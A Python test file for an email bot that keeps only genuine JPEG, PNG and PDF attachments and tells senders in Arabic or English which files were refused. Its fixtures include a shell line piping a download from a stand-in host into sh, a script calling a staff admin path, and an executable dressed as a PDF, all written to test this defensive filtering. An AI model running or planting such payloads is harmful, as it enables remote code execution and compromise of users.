"""A mail's attachments are kept only when their bytes are a JPEG, PNG or PDF, as on the other
channels: a program named like a PDF, an HTML page with a script, a shell script are never
written to disk nor offered to staff, and the sender is told in the thread, in the
conversation's language, which files were not kept and which kinds are; the words are kept
and answered."""

from __future__ import annotations

from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

import pytest
from sqlalchemy import select

from adapters.email.imap import Mail, Outcome
from bot.channels.email import EmailChannel
from bot.service import Service
from conversations.messages import file_kinds
from storage.models import Message
from tests.email.conftest import Beneficiary, RunningBot, text_of
from tests.email.mailserver import MailServer

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 200
HTML = b"<html><body><script>fetch('/staff/admin')</script>Statement</body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
KINDS = file_kinds(("image/jpeg", "image/png", "application/pdf"))


def mail_with(address: str, words: str, message_id: str, *files: tuple[str, str, bytes]) -> bytes:
    msg = EmailMessage()
    msg["From"] = address
    msg["Subject"] = "كشف الحساب"
    msg["Message-ID"] = message_id
    msg.set_content(words)
    for name, declared, data in files:
        maintype, subtype = declared.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes(policy=SMTP)


def kept_files(runner: RunningBot) -> list[Path]:
    root = Path(runner.service.config.storage.attachments_dir)
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


async def inbound_row(runner: RunningBot) -> Message:
    async with runner.service.db.session(write=False) as session:
        row = await session.scalar(select(Message).where(Message.direction == "in"))
    assert row is not None
    return row


async def test_a_program_and_a_page_are_refused_the_pdf_and_words_kept(
    running: tuple[RunningBot, Beneficiary],
) -> None:
    runner, amal = running
    words = "السلام عليكم، مرفق كشف الحساب وصورة الهوية"
    await amal.send(
        mail_with(
            amal.address,
            words,
            "<files-1@mail.example.test>",
            ("bank-statement.pdf.exe", "application/pdf", EXE),
            ("statement.html", "text/html", HTML),
            ("تحديث.sh", "application/octet-stream", SCRIPT),
            ("هوية.pdf", "application/pdf", PDF),
        )
    )
    # One mail in the thread: what was not kept, then the answer to the words.
    [answer] = await amal.answers()
    assert answer["In-Reply-To"] == "<files-1@mail.example.test>"
    notice, _, rest = text_of(answer).partition(KINDS)
    assert "لم نحتفظ بهذه الملفات المرفقة" in notice
    for name in ("bank-statement.pdf.exe", "statement.html", "تحديث.sh"):
        assert name in notice
    assert "هوية.pdf" not in notice
    assert runner.service.catalog.text("ar", "greeting").split("\n")[0] in rest

    row = await inbound_row(runner)
    assert row.text == words and row.processed_at is not None  # the words were answered
    [stored] = row.payload["attachments"]
    assert stored["content_type"] == "application/pdf" and stored["filename"] == "هوية.pdf"
    assert kept_files(runner) == [runner.service.files.path(stored["ref"])]
    assert kept_files(runner)[0].read_bytes() == PDF


@pytest.mark.parametrize(
    ("name", "declared", "data"),
    [
        ("invoice.pdf", "application/pdf", HTML),  # an HTML page dressed as a PDF
        ("photo.jpg", "image/jpeg", EXE),
        ("notes.txt", "text/plain", b"plain words"),
    ],
    ids=["html-as-pdf", "exe-as-jpeg", "text"],
)
async def test_an_english_writer_is_told_in_english(
    running: tuple[RunningBot, Beneficiary], name: str, declared: str, data: bytes
) -> None:
    runner, amal = running
    await amal.send(
        mail_with(
            amal.address, "Hello, my statement is attached.", "<files-2@mail.example.test>",
            (name, declared, data),
        )
    )  # fmt: skip
    [answer] = await amal.answers()
    notice = text_of(answer)
    assert notice.startswith("These attached files were not kept")
    assert f"- {name}" in notice and KINDS in notice
    row = await inbound_row(runner)
    assert row.text == "Hello, my statement is attached." and row.payload["attachments"] == []
    assert kept_files(runner) == []


async def test_a_mail_stored_already_leaves_no_copy_of_its_files(
    bot_setup: tuple[Service, str, str], mail_server: MailServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Read twice at once (two instances, a reconnect): the copy not stored is removed."""
    service, _, person = bot_setup
    channel = EmailChannel(service)
    raw = mail_with(
        person, "مرفق", "<files-3@mail.example.test>", ("a.pdf", "application/pdf", PDF)
    )

    async def not_yet(*_: object) -> bool:
        return False  # as when both readers looked before either stored it

    monkeypatch.setattr(service, "received", not_yet)
    for uid in (1, 2):
        assert await channel.on_mail(Mail(uid, raw, len(raw))) is Outcome.DONE
    async with service.db.session(write=False) as session:
        rows = list(await session.scalars(select(Message).where(Message.direction == "in")))
    [row] = rows
    [stored] = row.payload["attachments"]
    root = Path(service.config.storage.attachments_dir)
    assert sorted(p for p in root.rglob("*") if p.is_file()) == [service.files.path(stored["ref"])]
